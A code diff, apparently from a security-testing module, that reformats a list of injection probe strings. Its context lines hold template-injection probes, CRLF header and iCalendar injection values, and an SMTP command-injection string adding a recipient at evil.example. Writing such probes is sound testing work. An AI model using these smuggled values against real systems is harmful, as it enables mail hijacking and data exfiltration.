@@ -15,7 +15,8 @@ HTML = (
 TEMPLATE = f"{MARK}{{{{7*7}}}}${{7*7}}<%=7*7%>#{{7*7}} %s %(name)s {{0}} {{name}}"
 HEADER = f"x\r\n{MARK}-Header: 1\r\n\r\n{MARK} body =?utf-8?q?=0D=0A{MARK}-Header:_1?="
 CALENDAR = (
-    f"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n{MARK}-PROP:1\u2028{MARK}-PROP:2\x85{MARK}-PROP:3;{MARK}=1,"
+    f"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n{MARK}-PROP:1\u2028"
+    f"{MARK}-PROP:2\x85{MARK}-PROP:3;{MARK}=1,"
     f'":\\n\\'
 )
 SMTP = f"x>\r\nRCPT TO:<{MARK}@evil.example>\r\nDATA\r\n.\r\n{MARK}"
